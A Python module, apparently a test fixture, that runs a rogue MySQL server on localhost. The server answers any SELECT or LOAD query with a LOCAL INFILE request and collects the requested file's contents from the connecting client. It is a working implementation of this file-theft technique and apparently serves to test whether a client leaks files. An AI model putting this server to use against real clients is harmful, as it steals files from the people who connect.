"""A MySQL server that asks the client for its files."""

import socket
import struct
import threading


class RogueServer:
    """A server that answers every SELECT and LOAD with a request for a file."""

    def __init__(self, wanted):
        self.wanted, self.stolen = str(wanted).encode(), b""
        self.listener = socket.create_server(("127.0.0.1", 0))
        port = self.listener.getsockname()[1]
        self.url = f"mysql://cook:cook@127.0.0.1:{port}/cookbook"
        self.thread = threading.Thread(target=self.serve)
        self.thread.start()

    def serve(self):
        sock, _ = self.listener.accept()
        sock.settimeout(10)
        with sock, sock.makefile("rb") as self.stream:
            self.sock = sock
            capabilities = 0x000BA28F
            salt = b"12345678"
            hello = b"\x0a8.4.0\0" + struct.pack("<I", 1) + salt + b"\0"
            hello += struct.pack("<HBHHB", capabilities & 0xFFFF, 45, 2, 0xB, 21)
            hello += b"\0" * 10 + b"123456789012\0mysql_native_password\0"
            self.send(0, hello)
            self.receive()  # the login
            ok = b"\0\0\0\x02\0\0\0"
            self.send(2, ok)
            while command := self.receive():
                if b"SELECT" in command or b"LOAD" in command:
                    self.send(1, b"\xfb" + self.wanted)
                    while block := self.receive():
                        self.stolen += block
                    self.send(self.number + 1, ok)
                else:
                    self.send(1, ok)

    def send(self, number, payload):
        self.sock.sendall(
            struct.pack("<I", len(payload))[:3] + bytes([number]) + payload
        )

    def receive(self):
        try:
            header = self.stream.read(4)
            self.number = header[3] if header else 0
            return self.stream.read(int.from_bytes(header[:3], "little"))
        except OSError:
            return b""

    def close(self):
        self.listener.close()
        self.thread.join(10)
